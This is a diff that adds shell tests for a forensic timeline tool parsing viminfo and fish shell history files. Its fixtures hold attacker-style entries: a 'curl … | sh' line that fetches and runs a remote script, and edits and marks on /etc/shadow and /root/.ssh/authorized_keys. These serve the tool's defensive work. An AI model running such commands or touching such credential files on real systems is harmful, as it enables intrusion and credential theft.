@@ -161,3 +161,72 @@ for line in sys.stdin:
 	assert_contains "$output" '"type":"yum:log"'
 }
 
+@test "viminfo: history, search history and file marks with their times" {
+	irt timeline --format jsonl "$DATA/viminfo" >"$TMP/out" 2>"$TMP/err"
+	events <"$TMP/out" >"$TMP/ev"
+	cat "$TMP/ev" "$TMP/err"
+	grep -qxF '2026-01-01T00:05:00Z viminfo:history history=command | wq' "$TMP/ev"
+	grep -qxF '2026-01-01T00:03:20Z viminfo:history history=command | e /etc/shadow' "$TMP/ev"
+	# \" and \\ decoded
+	grep -qxF '2026-01-01T00:01:40Z viminfo:history history=command | !echo "hi" \ there' "$TMP/ev"
+	# a long string goes on in "|<" lines
+	grep -qxE '2026-01-01T00:00:50Z viminfo:history history=command \| s/x{1500}/y/' "$TMP/ev"
+	grep -qxF '2026-01-01T00:02:30Z viminfo:history history=search | password' "$TMP/ev"
+	grep -qxF '2026-01-01T00:05:10Z viminfo:mark column=4 file=/etc/shadow line=12 mark=0 | /etc/shadow' "$TMP/ev"
+	grep -qxF "2026-01-01T00:05:10Z viminfo:mark column=4 file=/etc/shadow line=12 mark=' | /etc/shadow" "$TMP/ev"
+	grep -qxF '2025-12-31T23:58:20Z viminfo:mark column=0 file=~/notes\ntwo.txt line=1 mark=1 | ~/notes\ntwo.txt' "$TMP/ev"
+	grep -qxF '2026-01-01T00:05:10Z viminfo:mark file=/etc/shadow mark=* | /etc/shadow' "$TMP/ev"
+	grep -qxF '2025-12-31T23:56:40Z viminfo:mark file=/root/.ssh/authorized_keys mark=* | /root/.ssh/authorized_keys' "$TMP/ev"
+	# registers are no events
+	run ! grep -q 'secret text' "$TMP/ev"
+	[ "$(wc -l <"$TMP/ev")" -eq 10 ]
+	grep -qF "viminfo:53: " "$TMP/err"
+	grep -qF "entry skipped" "$TMP/err"
+	grep -qF "viminfo:54: not a viminfo line, skipped" "$TMP/err"
+	grep -qF "viminfo: 1 entries with no time, skipped" "$TMP/err"
+}
+
+@test "fish_history: entries, escapes decoded, paths, untimed entries" {
+	irt timeline --format jsonl "$DATA/fish_history" >"$TMP/out" 2>"$TMP/err"
+	events <"$TMP/out" >"$TMP/ev"
+	cat "$TMP/ev" "$TMP/err"
+	grep -qxF '2026-01-01T00:00:00Z fish:history  | curl -s http://203.0.113.7/x.sh | sh' "$TMP/ev"
+	grep -qxF '2026-01-01T00:02:00Z fish:history  | cd /tmp' "$TMP/ev"
+	[ "$(wc -l <"$TMP/ev")" -eq 3 ]
+	# "\n" is a newline, "\\" a backslash
+	python3 -c '
+import json, sys
+ev = [json.loads(l) for l in open(sys.argv[1]) if l.startswith("{")]
+e = [x for x in ev if x["time"] == "2026-01-01T00:01:00Z"][0]
+assert e["message"] == "echo one\ntwo \\n three", e
+assert e["fields"]["paths"] == "/tmp/a\\b\n/tmp/c", e
+' "$TMP/out"
+	grep -qF "fish_history:10: bad fish history time, entry skipped" "$TMP/err"
+	grep -qF "fish_history:11: not a fish history line, skipped" "$TMP/err"
+	grep -qF "fish_history: 1 entries with no time, skipped" "$TMP/err"
+}
+
+@test "viminfo and fish_history: known by name, content and in archives" {
+	mkdir -p "$TMP/a/fs/root/.local/share/fish" "$TMP/a/fs/home/bob" "$TMP/x"
+	cp "$DATA/viminfo" "$TMP/a/fs/home/bob/.viminfo"
+	cp "$DATA/fish_history" "$TMP/a/fs/root/.local/share/fish/fish_history"
+	cp "$DATA/fish_history" "$TMP/a/fs/root/.local/share/fish/work_history"
+	tar -C "$TMP/a" -czf "$TMP/h.tar.gz" fs
+	run irt timeline -q --format jsonl "$TMP/h.tar.gz"
+	[ "$status" -eq 0 ]
+	assert_contains "$output" 'h.tar.gz:fs/home/bob/.viminfo","host":null,"type":"viminfo:history","path":"/home/bob/.viminfo"'
+	assert_contains "$output" 'h.tar.gz:fs/root/.local/share/fish/fish_history","host":null,"type":"fish:history"'
+	assert_contains "$output" 'h.tar.gz:fs/root/.local/share/fish/work_history","host":null,"type":"fish:history"'
+	cp "$DATA/viminfo" "$TMP/x/vi.txt"
+	cp "$DATA/fish_history" "$TMP/x/fish.txt"
+	run irt timeline -q --format jsonl "$TMP/x/vi.txt" "$TMP/x/fish.txt" "$TMP/a/fs/home/bob/.viminfo"
+	[ "$status" -eq 0 ]
+	assert_contains "$output" '"source":"viminfo:'"$TMP"'/x/vi.txt"'
+	assert_contains "$output" '"source":"fish_history:'"$TMP"'/x/fish.txt"'
+	assert_contains "$output" '"source":"viminfo:'"$TMP"'/a/fs/home/bob/.viminfo"'
+	# another history in a folder named fish is not fish's
+	mkdir -p "$TMP/fish"
+	printf '#1767225600\nls\n' >"$TMP/fish/.bash_history"
+	run irt timeline -q --format jsonl "$TMP/fish/.bash_history"
+	assert_contains "$output" '"type":"bash:history"'
+}
